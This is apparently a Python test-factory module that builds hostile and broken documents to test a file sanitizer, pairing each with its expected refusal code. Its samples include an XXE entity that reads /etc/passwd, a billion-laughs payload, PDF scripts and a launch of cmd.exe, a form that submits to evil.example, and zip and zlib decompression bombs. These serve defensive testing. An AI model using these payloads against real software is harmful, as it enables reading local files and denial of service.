"""Hostile and broken documents, made here, with the answer to each: the code of a refusal, or what is
gone from the file that is kept.
"""

import zlib
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.factories import documents as made
from tests.factories.documents import changed_pdf, with_entries
from tests.files.hostile import forging

OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
MEGABYTE = 1024 * 1024
KEPT = "kept"  # cleaned, with something gone
SAFE = "safe"  # stays as it is: nothing of it is unpacked, or not more than there is room for

Case = tuple[str, bytes, str, bytes]  # name, content, code or KEPT, what must be gone


@cache
def documents() -> dict[str, Case]:
    """By what is wrong with them."""
    return _pdfs() | _office()


def _pdfs() -> dict[str, Case]:
    locked = pikepdf.Encryption(owner="a", user="b")
    whole = made.pdf(pages=3)
    return {
        "PDF that runs a script when opened": _kept(made.with_script, b"alert"),
        "PDF that starts a program": _kept(made.with_launch, b"cmd.exe"),
        "PDF with a program in it": _kept(made.with_program, b"EmbeddedFile"),
        "PDF with an annotation that is a file": _kept(_file_annotation, b"FileAttachment"),
        "PDF that sends its form away": _kept(_form_that_sends, b"evil"),
        "PDF with actions of pages": _kept(_page_actions, b"alert"),
        "PDF whose chain of actions ends in a script": _kept(_chain, b"/JavaScript"),
        "PDF that names its author": _kept(made.with_author, b"/Author"),
        "PDF with a password": (
            "a.pdf",
            changed_pdf(lambda pdf: None, encryption=locked),
            "encrypted",
            b"",
        ),
        "PDF signed and with a script": (
            "a.pdf",
            changed_pdf(_signed_script),
            "signed_and_active",
            b"",
        ),
        "PDF with a bomb for a page": ("a.pdf", changed_pdf(_bomb_of_a_page), SAFE, b""),
        "PDF with a bomb for particulars": ("a.pdf", changed_pdf(_bomb_of_words), SAFE, b""),
        "PDF in a circle of pages": ("a.pdf", changed_pdf(_circle), "damaged", b""),
        "PDF that is an archive, too": (
            "a.pdf",
            whole + forging.archive(b"tai-nha-rieng"),
            KEPT,
            b"tai-nha-rieng",
        ),
        "nothing called PDF": ("a.pdf", b"", "other", b""),
        "Word called PDF": ("a.pdf", made.docx(), "other", b""),
        "PDF cut off": ("a.pdf", whole[: len(whole) // 3], "damaged", b""),
        "PDF of one line": ("a.pdf", b"%PDF-1.7\n", "damaged", b""),
        "PDF of noughts": ("a.pdf", b"%PDF-1.7\n" + bytes(5000), "damaged", b""),
        "web page called PDF": ("a.pdf", b"<html><script>alert(1)</script>", "other", b""),
        "program called PDF": ("a.pdf", b"MZ\x90\0" + bytes(500), "other", b""),
    }


def _office() -> dict[str, Case]:
    word = made.docx()
    relations = "word/_rels/document.xml.rels"
    odt = made.packed(mimetype="application/vnd.oasis.opendocument.text")
    entries = {
        "Word with macros": ({"word/vbaProject.bin": b"x"}, "macros"),
        "Word with ActiveX": ({"word/activeX/activeX1.bin": b"x"}, "macros"),
        "Word with an object of another program": ({"word/embeddings/ole1.bin": b"x"}, "embedded"),
        "Word with a picture elsewhere": (
            {relations: made.related("image", "http://x.vn/a.png")},
            "outside",
        ),
        "Word with a frame elsewhere": (
            {relations: made.related("frame", "file://server/share")},
            "outside",
        ),
        "Word that reads a file": ({"word/document.xml": ENTITY}, "entities"),
        "Word that laughs": ({"word/document.xml": LAUGHS}, "entities"),
        "Word that reads a file in UTF-16": (
            {"word/document.xml": ENTITY.encode("utf-16")},
            "entities",
        ),
        "Word with a bomb": ({"word/media/a.bmp": bytes(40 * MEGABYTE)}, "bomb"),
        "Word with broken properties": ({"docProps/core.xml": "<x"}, "damaged"),
    }
    cases: dict[str, Case] = {
        name: ("a.docx", with_entries(word, **more), code, b"")
        for name, (more, code) in entries.items()
    }
    return cases | {
        "Excel with a bomb": (
            "a.xlsx",
            made.packed(
                **{
                    "[Content_Types].xml": "<Types/>",
                    "xl/workbook.xml": "<x/>",
                    "xl/worksheets/sheet1.xml": b"<x>" + b" " * (110 * MEGABYTE),
                }
            ),
            "bomb",
            b"",
        ),
        "Word whose list of entries lies": (
            "a.docx",
            forging.zip_that_lies(with_entries(word, **{"word/a.xml": bytes(MEGABYTE)}), 10),
            "damaged",
            b"",
        ),
        "Word with words behind its end": (
            "a.docx",
            _clean(word) + b"tai-nha-rieng" * 9,
            KEPT,
            b"tai-nha-rieng",
        ),
        "Word with a remark on its archive": (
            "a.docx",
            _remarked(_clean(word), b"tai-nha-rieng"),
            KEPT,
            b"tai-nha-rieng",
        ),
        "PDF called Word": ("a.docx", made.pdf(), "other", b""),
        "archive of a program": ("a.docx", made.packed(**{"a.exe": b"MZ"}), "other", b""),
        "archive within archives": ("a.zip", _nested(12), SAFE, b""),
        "Word of many entries": ("a.docx", _many(word), "bomb", b""),
        "Word cut off": ("a.docx", word[: len(word) // 2], "damaged", b""),
        "Word of 2003": ("a.docx", OLE_HEAD + bytes(4096), "locked_or_old", b""),
        "OpenDocument with macros": (
            "a.odt",
            with_entries(odt, **{"Basic/Standard/a.xml": "<x/>"}),
            "macros",
            b"",
        ),
        "OpenDocument with a password": (
            "a.odt",
            with_entries(odt, **{"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
            "encrypted",
            b"",
        ),
        "archive with a bomb": ("a.zip", made.packed(a=bytes(60 * MEGABYTE)), "bomb", b""),
        "table that is no text": ("a.csv", b"\xff\xfb\0", "text", b""),
    }


def _kept(change, gone: bytes) -> Case:
    return ("a.pdf", changed_pdf(change), KEPT, gone)


def _file_annotation(pdf: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
    pdf.pages[0].Annots = Array([note])


def _form_that_sends(pdf: pikepdf.Pdf) -> None:
    send = Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))
    field = Dictionary(Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), A=send)
    pdf.pages[0].Annots = Array([pdf.make_indirect(field)])


def _page_actions(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("alert")))


def _chain(pdf: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"alert(1)"))
    first = Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([script]))
    link = Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=pdf.make_indirect(first))
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])


def _signed_script(pdf: pikepdf.Pdf) -> None:
    made.signed(pdf)
    made.with_script(pdf)


def _bomb_of_a_page(pdf: pikepdf.Pdf) -> None:
    """Two hundred megabytes of nothing to draw, packed twice."""
    packed = zlib.compress(zlib.compress(b" " * (200 * MEGABYTE), 9), 9)
    twice = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.pages[0].Contents = pikepdf.Stream(pdf, packed, Filter=twice)


def _bomb_of_words(pdf: pikepdf.Pdf) -> None:
    packed = zlib.compress(b" " * (500 * MEGABYTE), 9)
    pdf.Root.Metadata = pikepdf.Stream(
        pdf, packed, Filter=Name.FlateDecode, Type=Name.Metadata, Subtype=Name.XML
    )


def _circle(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids = Array([pdf.Root.Pages])


def _clean(word: bytes) -> bytes:
    """Without anything that would be taken out anyway."""
    return with_entries(word, **{"docProps/core.xml": "<x/>", "docProps/app.xml": "<x/>"})


def _remarked(word: bytes, remark: bytes) -> bytes:
    data = BytesIO(word)
    with ZipFile(data, "a") as archive:
        archive.comment = remark
    return data.getvalue()


def _nested(depth: int) -> bytes:
    data = bytes(5 * MEGABYTE)
    for _each in range(depth):
        data = made.packed(**{"a.zip": data})
    return data


def _many(word: bytes) -> bytes:
    data = BytesIO(word)
    with ZipFile(data, "a", ZIP_DEFLATED, compresslevel=zlib.Z_BEST_SPEED) as archive:
        for number in range(10_001):
            archive.writestr(f"word/{number}", b"")
    return data.getvalue()
